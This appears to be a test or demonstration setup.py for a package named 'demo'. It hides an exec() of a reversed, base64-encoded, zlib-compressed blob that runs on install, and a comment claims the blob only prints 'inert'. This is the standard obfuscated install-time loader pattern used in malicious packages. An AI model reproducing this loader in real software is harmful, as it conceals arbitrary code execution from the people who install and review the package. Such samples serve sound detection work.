from setuptools import setup

# Three layers around print('inert').
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==gwc8i6AQA1XXlSwnq8tgwy0HjL0RPNyyQ9K0CTxEfCONj8JdnLP9kLrc/Ls4CcKgErq40dOPnzKwKsMkIKz2SDuMfKONfCL1kC0JXdx9gL08sUIR91ICt1NhUrLxJe"))
setup(name="demo", version="1.0")
